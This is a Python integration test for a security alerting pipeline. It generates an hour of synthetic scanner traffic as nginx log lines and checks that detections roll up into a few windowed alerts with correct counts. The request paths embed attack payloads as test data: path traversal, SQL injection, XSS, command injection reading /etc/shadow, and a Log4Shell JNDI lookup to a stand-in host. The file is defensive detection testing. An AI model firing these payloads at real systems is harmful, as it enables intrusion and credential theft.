"""A web scan of 100,000 matches, in micro-batches over an hour: a queue that people can work through."""

from __future__ import annotations

import dataclasses
import itertools
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pyarrow as pa
import pytest
from opensearchpy import OpenSearch

from dashboards.loader import install_templates
from hamrong.config import Config
from hamrong.stack import kafka
from ingest.event import TIMESTAMP, raw
from jobs import count, detect, loaded
from jobs.alerts import batch_rows, documents_of
from jobs.sinks import data_files, delta
from triage import store

pytestmark = [pytest.mark.services, pytest.mark.timeout(300)]

ALIAS = "volume-alerts"
MATCHES = 100_000
BATCH = 10_000
START = datetime(2026, 11, 24, 23, 40, tzinfo=UTC)
"""So that the hour lies over the end of every window."""

REQUESTS = (
    "/view?page=../../../../etc/passwd{}",
    "/item?id={}%27%20union%20select%20password%20from%20users--",
    "/find?q=%3Cscript%3Ealert({})%3C/script%3E",
    "/run?cmd=;cat%20/etc/shadow%20{}",
    "/search?q=$%7Bjndi:ldap://198.51.100.7/{}%7D",
)


@pytest.fixture
def road(cfg: Config, kafka_bootstrap: str, opensearch_url: str, opensearch_client: OpenSearch) -> Config:
    """An empty lake and no alerts; every line is the scan's, and no share of them is to be left out."""
    install_templates(opensearch_client, alias=ALIAS)
    topics = dataclasses.replace(
        cfg.kafka,
        bootstrap_servers=kafka_bootstrap,
        raw_topic="volume.raw",
        dead_topic="volume.dead",
        alerts_topic="volume.told",
    )
    kafka.create_topics(kafka_bootstrap, topics)
    made = dataclasses.replace(
        cfg,
        kafka=topics,
        opensearch=dataclasses.replace(cfg.opensearch, url=opensearch_url, alerts_alias=ALIAS),
        detection=dataclasses.replace(cfg.detection, rule_matches=1000.0),
    )
    delta.create_tables(made)
    return made


def scanned(cfg: Config) -> Iterator[pa.RecordBatch]:
    """The matches of one scanner's hour that raise alerts, batch by batch, as `jobs.detect` has them."""
    register, ruleset = loaded.register(cfg.detection), loaded.ruleset(cfg.detection)
    found = 0
    for first in itertools.count(0, BATCH):
        if found >= MATCHES:
            return
        lines = []
        for number in range(first, first + BATCH):
            at = START + timedelta(seconds=number * 0.06)
            path = REQUESTS[number % len(REQUESTS)].format(number)
            stamp = f"{at:%d/%b/%Y:%H:%M:%S +0000}"
            head = f"<190>{at:%b %d %H:%M:%S} web-{number % 3} nginx: 192.0.2.7 - - [{stamp}]"
            lines.append(f'{head} "GET {path} HTTP/1.1" 404 5 "-" "sqlmap/1.8"'.encode())
        columns = {
            "value": pa.array(lines, pa.binary()),
            "received": pa.array([START + timedelta(hours=1)] * BATCH, TIMESTAMP),
            "id": pa.array([f"gw1-{first + number}" for number in range(BATCH)]),
        }
        _, matches = detect.detect(raw(BATCH, columns), register, ruleset)
        raising = matches.filter(matches.column("alert_id").is_valid())
        found += raising.num_rows
        yield raising


def stored(client: OpenSearch) -> list[dict[str, Any]]:
    client.indices.refresh(index=f"{ALIAS}-*")
    return [hit["_source"] for hit in client.search(index=ALIAS, size=1000)["hits"]["hits"]]


def test_a_scan_of_an_hour_is_a_few_alerts_that_count_every_match(
    spark: Any, road: Config, opensearch_client: OpenSearch
) -> None:
    build = documents_of(loaded.register(road.detection), loaded.ruleset(road.detection))
    lake, expected = delta.Tables(road), Counter[str]()
    query = count.start(spark, road)
    try:
        for number, matches in enumerate(scanned(road)):
            expected.update(matches.column("rule_id").to_pylist())
            refused = [why for _, why in store.put(opensearch_client, build(batch_rows(matches)), ALIAS) if why]
            assert not refused
            writer = data_files.Writer(road.lake.path)
            writer.write("matches", matches)
            lake.commit(writer.finish().to_pylist(), "volume", number)
        early = stored(opensearch_client)
        query.processAllAvailable()
    finally:
        query.stop()
    alerts = stored(opensearch_client)
    assert sum(expected.values()) >= MATCHES
    assert {alert["soc"]["alert"]["id"] for alert in alerts} == {alert["soc"]["alert"]["id"] for alert in early}
    assert len(alerts) == 2 * len(expected) <= 50, "two windows each"
    counts: Counter[str] = Counter()
    for alert in alerts:
        counts[alert["rule"]["id"]] += alert["soc"]["alert"]["count"]
        assert len(alert["soc"]["alert"]["evidence"]) == 5
    assert counts == expected
